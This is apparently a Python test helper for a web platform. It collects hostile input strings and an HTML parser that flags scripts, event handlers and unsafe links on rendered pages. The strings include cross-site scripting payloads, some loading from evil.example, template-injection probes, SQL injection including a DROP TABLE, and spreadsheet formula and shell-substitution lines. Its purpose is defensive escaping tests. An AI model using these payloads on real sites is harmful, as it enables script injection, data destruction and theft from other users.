"""Strings that somebody may write into any field to do harm on another's page."""

from __future__ import annotations

from html.parser import HTMLParser

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '<script type="module">alert(1)</script>',
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
]
_EVENTS = [
    f"<{tag} {event}=alert(1){rest}>"
    for tag, rest in (("img src=x", ""), ("svg", ""), ("details open", ""), ("b", ""))
    for event in ("onerror", "onload", "ontoggle", "onmouseover", "onfocus autofocus")
]
_ATTRIBUTES = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "x onclick=alert(1)",
    '"/onload=alert(1)//',
    "` onmouseover=`alert(1)",
    '" style="position:fixed;inset:0',
    '" formaction="//evil.example',
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/@localhost",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
]
_ELEMENTS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]
_TEMPLATES = [
    "{{ 7*7 }}",
    "{{7*7}}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}",
    '{% include "home/home.html" %}',
    "{% csrf_token %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s",
    "%s%s%s%n",
    "{0.__class__}",
    "$(id)",
    "`id`",
]
_QUERIES = [
    "'; DROP TABLE people_user; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "\\'; --",
    "') UNION SELECT NULL --",
    "%' OR 1=1 --",
]
_CELLS = [
    "=1+1",
    '=HYPERLINK("//evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]
_LETTERS = [
    "\u202egpj.exe",
    "\u2066left\u2069",
    "a\u200bb\u200dc",
    "e\u0301\u0301\u0301\u0301\u0301",
    "\ufeffbom",
    "ﷺ" * 10,
    "👩‍👩‍👧‍👧",
    "\U000e0041\U000e0042",
    "\u0130\u0131\u017f\u212a",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028line",
    "ñandú \u2013 «hormiga»",
    "عنوان طويل",
]
_MUTATIONS = [
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><img src="x">',
    "<noembed><img title='</noembed><img src onerror=alert(1)>'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<title><img src=x onerror=alert(1)></title>",
    "<img src=`x` onerror=alert(1)>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<frameset onload=alert(1)>",
    "<img name=fields><img name=submit><form id=answer>",
]
_SCRIPT_BREAKS = [
    '"};alert(1);//',
    "\\u003cscript\\u003ealert(1)",
    '{"__proto__":{"x":1}}',
    "</script><svg onload=alert(1)>",
    "'-alert(1)-'",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "[[alert(1)]]",
]
_CONTROLS = [
    "a\x01b\x02c",
    "<\x0bscript>alert(1)</script>",
    "<img\x0csrc=x onerror=alert(1)>",
    "a\x08\x7fb\x1b[31mred",
    "\x80\x9fc1",
    "\ufffe\uffff",
]
_LONG = ["W" * 100, "<b>" * 33, "ab " * 33, "&" * 100, "é" * 100]

HOSTILE = [
    *_SCRIPTS,
    *_EVENTS,
    *_ATTRIBUTES,
    *ADDRESSES,
    *_ELEMENTS,
    *_TEMPLATES,
    *_QUERIES,
    *_CELLS,
    *_LETTERS,
    *_MUTATIONS,
    *_SCRIPT_BREAKS,
    *_CONTROLS,
    *_LONG,
]
"""Each at most 100 characters, so that even a name has room for it and its mark."""


def marked(field: str) -> list[str]:
    """Write each string so that it tells in which field it stood.

    The mark is a comment wherever the string would run.
    """
    return [f"{one}//{field};" for one in HOSTILE]


def packed(strings: list[str], size: int, between: str = " ") -> list[str]:
    """Join strings into as few texts of at most `size` characters as come easily."""
    packs = [""]
    for one in strings:
        longer = packs[-1] + between + one if packs[-1] else one
        if len(longer) <= size:
            packs[-1] = longer
        else:
            packs.append(one)
    return packs


WRITTEN = {
    *("User.email", "Organisation.name", "Programme.name", "QualificationType.name"),
    *("AuditEntry.subject", "AuditEntry.facts", "Batch.name", "Run.detail"),
    *("ProjectVersion.title", "ProjectVersion.description"),
    *("ProjectVersion.instructions", "ProjectVersion.answer_schema"),
    *("Task.input", "Task.annotation", "TaskImport.errors", "SharedTerms.keywords"),
    *("Assignment.answer", "Draft.answer", "Gold.answer", "Gold.reason"),
    *("TaskReport.text", "Label.value", "Decision.reason"),
    "TimeCorrection.reason",
    *("PayoutMethod.sealed_holder", "PayoutMethod.sealed_account"),
    *("DiaryEntry.source", "DiaryEntry.note"),
    # By tests/doors/web/test_forum and test_notices:
    *("Notice.facts", "FakeReport.url", "FakeReport.text", "FakeReport.contact"),
    *("ForumName.name", "Thread.title", "Post.text", "PostReport.text"),
    "FakeReport.note",
    *("Lesson.blocks", "BlockResult.answers"),  # by tests/doors/web/test_course_pages
    "Programme.about",  # by tests/doors/web/test_programme_pages
}
"""Fields into which tests/browser/hostile_house.py writes every string."""

UNSHOWN = {
    *("QualificationType.description", "ProjectVersion.template"),
    *("ProjectVersion.input_schema", "ProjectVersion.label_path", "TaskImport.key"),
    "ProjectVersion.unit_pointer",
    *("ProjectVersion.settings", "TaskImport.refusal", "RequestToken.token"),
    *("MediaFile.name", "MediaFile.facts", "Upload.name", "Upload.keeps"),
    *("Upload.refusal", "Payout.detail", "Proposal.reason"),
}
"""Fields that people write and no page shows yet: whoever shows one, moves it up."""

OWN_WORDS = {
    # By tests/doors/web/test_tax_pages:
    *("TaxFigure.name", "TaxFigure.body", "TaxFigure.added_by", "TaxRequest.row"),
    *("TaxRequest.form", "TaxRequest.held_by", "TaxRequest.held_reason"),
    *("TaxIdentity.sealed_first_name", "TaxIdentity.sealed_last_name"),
    *("TaxIdentity.sealed_street", "TaxIdentity.sealed_post_code"),
    *("TaxIdentity.sealed_city", "TaxIdentity.sealed_birth_date"),
    *("TaxIdentity.sealed_birth_place", "TaxIdentity.sealed_tin"),
    *("TaxIdentity.residence", "TaxRelief.noted_by", "Withholding.source"),
    *("Withholding.country", "Withholding.row", "Withholding.rail"),
    *("Withholding.currency", "Declarant.name", "Declarant.business_name"),
    *("Declarant.country", "Declarant.tin", "Declarant.street"),
    *("Declarant.post_code", "Declarant.city", "Declarant.phone"),
    *("Declarant.nexus", "Declarant.noted_by", "Filing.country"),
    *("Filing.sealed_content", "Filing.filed_by"),
    # By tests/doors/web/test_requester_money:
    *("BuyerDetails.name", "BuyerDetails.tax_id", "BuyerDetails.address"),
    *("Bonus.reason", "Bonus.token", "Bonus.about", "Bonus.body_sha256", "Bonus.by"),
    *("Bonus.currency", "IssuerDetails.name", "IssuerDetails.tax_id"),
    *("IssuerDetails.address", "IssuerDetails.note", "DocumentSeries.kind"),
    *("Document.currency", "Document.about", "Document.body", "Document.sha256"),
    *("PaypalOrder.currency", "PaypalOrder.provider_id", "PaypalOrder.approve_url"),
    *("PaypalOrder.detail", "PaypalOrder.by", "SpendLimit.currency"),
    *("Spending.actor", "Spending.currency", "Spending.key", "FundsAlert.currency"),
    *("WalletRefund.currency", "WalletRefund.sealed_account", "WalletRefund.note"),
    "WalletRefund.by",
    # By tests/doors/web/test_payout_account:
    *("PayoutMethod.sealed_details", "PayoutMethod.decision"),
    "PayoutMethod.unverified_reason",
    # By tests/doors/web/test_money_pages:
    *("Dispute.words", "Dispute.answer", "Dispute.objection", "Dispute.last_answer"),
    *("Dispute.title", "Dispute.line", "Dispute.name", "Dispute.currency"),
    "LatePay.currency",
    *("Proposal.currency", "Proposal.fingerprint", "Proposal.proposed_by"),
    *("Proposal.decided_by", "ProviderEvent.event_id", "ProviderEvent.kind"),
    # By tests/doors/web/test_operator_bank (what a bank or a sender wrote):
    *("BankEntry.sealed_words", "BankEntry.reason", "BankEntry.reference"),
    *("BankEntry.end_to_end_id", "BankEntry.resolution_reason", "BankEntry.match_key"),
    *("BankEntry.information_id", "BankEntry.message_id", "BankEntry.resolved_by"),
    *("BankFile.message_id", "BankFile.read_by", "BankStatement.account_masked"),
    *("BankStatement.statement_id", "PaymentStatus.end_to_end_id"),
    *("PaymentStatus.run_key", "PaymentStatus.payout_key", "PaymentStatus.status"),
    *("PaymentStatus.reason", "PaymentStatus.sealed_name"),
    # By tests/doors/web/test_vendor_money:
    *("VendorDetails.name", "VendorDetails.tax_id", "VendorDetails.address"),
    *("VendorAccount.sealed_holder", "VendorAccount.sealed_iban"),
    *("LineDispute.words", "LineDispute.answer", "VendorLine.title"),
    *("VendorLine.about", "VendorStatement.currency", "VendorStatement.time_zone"),
    *("VendorStatement.details", "VendorPayment.currency"),
    "VendorPayment.sealed_file",
    # By tests/doors/web/test_vendor_first_hostile:
    *("Agreement.title", "AgreementVersion.text", "Contract.about", "Contract.asks"),
    *("Application.languages", "Application.why", "Application.words"),
    *("VendorRating.words", "LeakCase.url", "LeakCase.words", "LeakCase.watermark"),
    *("LeakCase.outcome", "Signature.sealed_name"),
    *("AgreementVersion.sha256", "Signature.language", "Signature.text_sha256"),
    *("Contract.exam_slug", "Application.reason", "Invitation.code"),
    *("Notice.kind", "Notice.key", "Notice.link", "ChosenPhrase.sealed_phrase"),
    *("MailChoice.groups", "FakeReport.closed_by"),
    *("AlertChoice.currency", "AlertChoice.task_types", "AlertChoice.languages"),
    "AlertChoice.time_zone",
    *("Exam.slug", "Exam.kind", "Exam.title", "Exam.about", "Exam.languages"),
    *("Exam.reward_currency", "Exam.shipped", "Exam.shipped_hash", "ExamItem.code"),
    *("ExamItem.passage", "ExamItem.question", "ExamItem.shown", "ExamItem.why"),
    *("ExamItem.options", "Attempt.language", "Attempt.seed"),
    *("Course.slug", "Course.title", "Course.summary", "Course.outcome"),
    *("Course.opens", "Course.after", "Course.exam_slug", "Course.media"),
    *("Course.shipped_hash", "Lesson.slug", "Lesson.title", "Lesson.shipped_hash"),
    *("LessonProgress.state", "BlockResult.block"),
    *("PlannerSettings.time_zone", "PlannerSettings.feed_language"),
    *("Goal.currency", "DiaryEntry.currency"),
    *("EntryRequirement.comparator", "EntryRequirement.guards"),
    *("EntryRequirement.task_type", "Profile.time_zone", "SpokenLanguage.language"),
    *("QualificationType.slug", "QualificationType.title"),
    *("User.password", "User.language", "Worker.country", "Consent.version"),
    *("AuditEntry.actor", "AuditEntry.act", "AccessKey.access_key_id"),
    *("AccessKey.sealed_secret", "Qualification.locale", "Programme.slug"),
    *("Programme.currency", "Programme.time_zone", "ProjectVersion.task_type"),
    *("ProjectVersion.fallback_language", "ProjectVersion.currency"),
    *("ProjectVersion.unit_name", "ProjectVersion.unit_source"),
    *("Requirement.comparator", "Requirement.guards", "Task.review_state"),
    *("RequestToken.operation", "TaskReport.reason", "Label.method", "Export.format"),
    *("Account.owner", "Account.currency", "Account.kind", "Transaction.kind"),
    *("Transaction.key", "Transfer.currency", "Run.currency", "Run.sender_batch_id"),
    *("Run.provider_id", "Run.sealed_file", "MediaFile.kind", "MediaFile.media_type"),
    *("TaskImport.format", "TaskImport.error_format"),
}
"""Fields that hold words of ours, codes, or what nobody reads."""

OURS = {
    "html",
    "blockquote",
    "head",
    "meta",
    "title",
    "link",
    "body",
    "a",
    "svg",
    "g",
    "defs",
    "pattern",
    "text",
    "figure",
    "figcaption",
    "path",
    "ellipse",
    "circle",
    "rect",
    "header",
    "nav",
    "form",
    "input",
    "button",
    "main",
    "div",
    "p",
    "h1",
    "h2",
    "h3",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "footer",
    "section",
    "strong",
    "em",
    "code",
    "label",
    "select",
    "option",
    "optgroup",
    "textarea",
    "span",
    "details",
    "summary",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "caption",
    "progress",
    "time",
    "fieldset",
    "legend",
    "output",
    "pre",
    "small",
    "script",
    "br",
    "hr",
    "iframe",
    "kbd",
    "meter",
    "noscript",
    "template",
}


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.shown: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.shown += given.values()
        if tag not in OURS:
            self.dangers.append(f"<{tag}>")
        runs = tag == "script" and given.get("type") != "application/json"
        if runs and not (given.get("nonce") or given.get("src")):
            self.dangers.append("<script> without a nonce")
        for name, value in given.items():
            is_place = name in {"href", "src", "action", "formaction", "data"}
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.dangers.append(f"{tag} {name}={value}")
            if is_place and not (_is_local(value) or value.startswith("http")):
                self.dangers.append(f"{tag} {name}={value}")
            if is_place and "evil.example" in value:
                self.dangers.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.shown.append(data)


def _is_local(address: str | None) -> bool:
    text = address or ""
    return text == "" or text[0] in "#?" or (text[0] == "/" and text[1:2] != "/")


def read(page: str) -> tuple[list[str], str]:
    """Give what could do harm on a page, and all that a reader sees of it."""
    reader = _Page()
    reader.feed(page)
    reader.close()
    return reader.dangers, "\n".join(reader.shown)
